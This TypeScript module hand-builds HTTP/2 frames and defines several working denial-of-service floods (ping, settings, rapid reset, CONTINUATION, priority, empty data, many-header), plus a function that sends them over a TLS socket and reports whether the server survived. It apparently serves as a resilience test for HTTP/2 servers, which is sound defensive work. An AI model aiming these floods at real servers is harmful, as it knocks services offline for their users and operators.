import type {TLSSocket} from 'node:tls'

const BURST = 500

const TYPE = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  window: 8,
  continuation: 9,
}

function frame(type: keyof typeof TYPE, flags: number, stream: number, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(TYPE[type], 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** `:method GET, :scheme https`, from HPACK's own table, a path and an authority. */
const getting = (path: string) =>
  Buffer.concat([
    Buffer.of(0x82, 0x87, 0x04, path.length),
    Buffer.from(path),
    Buffer.of(0x41, 0x01),
    Buffer.from('x'),
  ])
const GET = getting('/')
/** A header of a new name each time, never indexed. */
const header = (name: string, value: string) =>
  Buffer.concat([
    Buffer.of(0x10, name.length),
    Buffer.from(name),
    Buffer.of(value.length),
    Buffer.from(value),
  ])
const setting = (id: number, value: number) => {
  const bytes = Buffer.alloc(6)
  bytes.writeUInt16BE(id, 0)
  bytes.writeUInt32BE(value, 2)
  return bytes
}
const burst = (one: (number: number) => Buffer) =>
  Buffer.concat(Array.from({length: BURST}, (_, number) => one(number)))
const END_STREAM = 1
const END_HEADERS = 4

/** What a caller begins with. */
export const HTTP2_PREFACE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame('settings', 0, 0),
])
/** A first request. */
export const http2Get = (path: string) =>
  frame('headers', END_STREAM | END_HEADERS, 1, getting(path))

/** Frames that cost the receiver more than the sender. Each is sent again and again on one connection; `round` counts. */
export const HTTP2_FLOODS: Record<string, (round: number) => Buffer> = {
  ping: () => burst(() => frame('ping', 0, 0, Buffer.alloc(8))),
  settings: () => burst((number) => frame('settings', 0, 0, setting(4, number))),
  'empty settings': () => burst(() => frame('settings', 0, 0)),
  reset: (round) =>
    burst((number) => {
      const stream = 1 + 2 * (round * BURST + number)
      return Buffer.concat([
        frame('headers', END_STREAM | END_HEADERS, stream, GET),
        frame('reset', 0, stream, Buffer.of(0, 0, 0, 8)),
      ])
    }),
  continuation: (round) =>
    Buffer.concat([
      ...(round === 0 ? [frame('headers', END_STREAM, 1, GET)] : []),
      burst((number) => frame('continuation', 0, 1, header(`h${number}`, 'x'.repeat(100)))),
    ]),
  'empty continuation': (round) =>
    Buffer.concat([
      ...(round === 0 ? [frame('headers', END_STREAM, 1, GET)] : []),
      burst(() => frame('continuation', 0, 1)),
    ]),
  priority: (round) =>
    burst((number) =>
      frame('priority', 0, 1 + 2 * (round * BURST + number), Buffer.of(0, 0, 0, 0, 1)),
    ),
  'empty data': (round) =>
    Buffer.concat([
      ...(round === 0 ? [frame('headers', END_HEADERS, 1, GET)] : []),
      burst(() => frame('data', 0, 1)),
    ]),
  'window of one': (round) =>
    Buffer.concat([
      ...(round === 0 ? [frame('settings', 0, 0, setting(4, 0))] : []),
      Buffer.concat(
        Array.from({length: 100}, (_, number) =>
          frame('headers', END_STREAM | END_HEADERS, 1 + 2 * (round * 100 + number), GET),
        ),
      ),
    ]),
  'many fields': (round) =>
    frame(
      'headers',
      END_STREAM | END_HEADERS,
      1 + 2 * round,
      Buffer.concat([GET, ...Array.from({length: 1500}, (_, n) => header(`h${n}`, 'x'))]),
    ),
}
const ROUNDS = 40

/** Whether the server still listened in the end. */
export async function pour(socket: TLSSocket, bytes: (round: number) => Buffer): Promise<boolean> {
  socket.resume()
  socket.write(HTTP2_PREFACE)
  let isOpen = true
  const closed = new Promise<void>((resolve) => socket.once('close', resolve)).then(() => {
    isOpen = false
  })
  for (let round = 0; round < ROUNDS && isOpen; round++) {
    if (!socket.write(bytes(round))) await Promise.race([drained(socket), closed])
  }
  return isOpen
}

const drained = (socket: TLSSocket) => new Promise<void>((resolve) => socket.once('drain', resolve))
